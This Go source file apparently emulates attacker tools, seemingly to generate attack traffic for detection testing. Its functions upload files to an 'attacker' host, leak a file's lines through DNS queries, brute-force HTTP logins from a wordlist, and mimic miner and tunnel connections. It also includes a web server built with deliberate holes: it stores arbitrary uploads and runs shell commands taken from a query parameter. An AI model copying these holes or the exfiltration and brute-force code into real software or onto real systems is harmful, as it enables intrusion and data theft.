package emulation

import (
	"bufio"
	"crypto/sha256"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/sys/unix"
)

// dial waits for whoever is about to listen.
func dial(to string) (c net.Conn, err error) {
	for range 200 {
		if c, err = net.Dial("tcp", to); err == nil {
			return c, nil
		}
		time.Sleep(25 * time.Millisecond)
	}
	return nil, err
}

func request(method, to string, body io.Reader) (*http.Response, error) {
	u, err := url.Parse(to)
	if err != nil {
		return nil, err
	}
	host := u.Host
	if u.Port() == "" {
		host += ":80"
	}
	c, err := dial(host)
	if err != nil {
		return nil, err
	}
	_ = c.Close()
	r, err := http.NewRequest(method, to, body)
	if err != nil {
		return nil, err
	}
	return http.DefaultClient.Do(r)
}

func curl(args []string) error {
	method, to, body := http.MethodGet, args[len(args)-1], io.Reader(nil)
	if len(args) > 2 && args[1] == "-T" {
		f, err := os.Open(args[2])
		if err != nil {
			return err
		}
		defer func() { _ = f.Close() }()
		method, body = http.MethodPut, f
	}
	res, err := request(method, to, body)
	if err != nil {
		return err
	}
	defer func() { _ = res.Body.Close() }()
	_, err = io.Copy(os.Stdout, res.Body)
	return err
}

func rclone(args []string) error {
	f, err := os.Open(args[1])
	if err != nil {
		return err
	}
	defer func() { _ = f.Close() }()
	res, err := request(http.MethodPut, "http://"+attacker+"/"+filepath.Base(args[1]), f)
	if err != nil {
		return err
	}
	return res.Body.Close()
}

func hydra(args []string) error {
	list, err := os.ReadFile(args[3])
	if err != nil {
		return err
	}
	for _, word := range strings.Fields(string(list)) {
		r, err := http.NewRequest(http.MethodGet, args[4], nil)
		if err != nil {
			return err
		}
		r.SetBasicAuth(args[1], word)
		res, err := http.DefaultClient.Do(r)
		if err != nil {
			return err
		}
		_ = res.Body.Close()
		if res.StatusCode == http.StatusOK {
			return nil
		}
	}
	return errors.New("none of them fits")
}

// nc listens for one connection, or goes to one.
func nc(args []string) error {
	if args[0] == "-l" {
		l, err := net.Listen("tcp4", "0.0.0.0:"+args[2])
		if err != nil {
			return err
		}
		c, err := l.Accept()
		if err != nil {
			return err
		}
		_, err = io.Copy(os.Stdout, c)
		return errors.Join(err, c.Close())
	}
	c, err := dial(net.JoinHostPort(args[0], args[1]))
	if err != nil {
		return err
	}
	_, err = io.Copy(c, os.Stdin)
	return errors.Join(err, c.Close())
}

// nginx is a web server with two holes: it keeps what it is sent, and runs what it is asked.
func nginx([]string) error {
	return http.ListenAndServe(":8080", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPut {
			b, _ := io.ReadAll(r.Body)
			if err := os.WriteFile(filepath.Join("/var/www/html", filepath.Base(r.URL.Path)), b, 0o644); err != nil {
				w.WriteHeader(http.StatusInternalServerError)
			}
			return
		}
		out, _ := exec.Command("/bin/sh", "-c", r.URL.Query().Get("c")).Output()
		_, _ = w.Write(out)
	}))
}

// dig asks for every name of a file, of one type.
func dig(args []string) error {
	list, err := os.ReadFile(args[1])
	if err != nil {
		return err
	}
	kind := map[string]dnsmessage.Type{"A": dnsmessage.TypeA, "TXT": dnsmessage.TypeTXT}[args[2]]
	c, err := net.Dial("udp", attacker+":53")
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	for i, text := range strings.Fields(string(list)) {
		name, err := dnsmessage.NewName(text + ".")
		if err != nil {
			return err
		}
		m := dnsmessage.Message{Header: dnsmessage.Header{ID: uint16(i), RecursionDesired: true},
			Questions: []dnsmessage.Question{{Name: name, Type: kind, Class: dnsmessage.ClassINET}}}
		b, err := m.Pack()
		if err != nil {
			return err
		}
		if _, err := c.Write(b); err != nil {
			return err
		}
		if _, err := c.Read(make([]byte, 1500)); err != nil {
			return err
		}
	}
	return nil
}

func xmrig(args []string) error {
	if err := say(strings.TrimPrefix(args[1], "stratum+tcp://"), `{"method":"login"}`); err != nil {
		return err
	}
	sum := sha256.Sum256(nil)
	for began := time.Now(); time.Since(began) < 20*time.Millisecond; {
		sum = sha256.Sum256(sum[:])
	}
	return nil
}

func chisel(args []string) error { return say(args[1], args[2]) }

func say(to, line string) error {
	c, err := dial(to)
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	if _, err := fmt.Fprintln(c, line); err != nil {
		return err
	}
	_, err = bufio.NewReader(c).ReadString('\n')
	return err
}

// tcpdump writes the first frame it sees to a file.
func tcpdump(args []string) error {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0x0300) // ETH_P_ALL, as the network has it
	if err != nil {
		return err
	}
	b := make([]byte, 65536)
	n, err := unix.Read(fd, b)
	if err != nil {
		return err
	}
	return os.WriteFile(args[3], b[:n], 0o600)
}
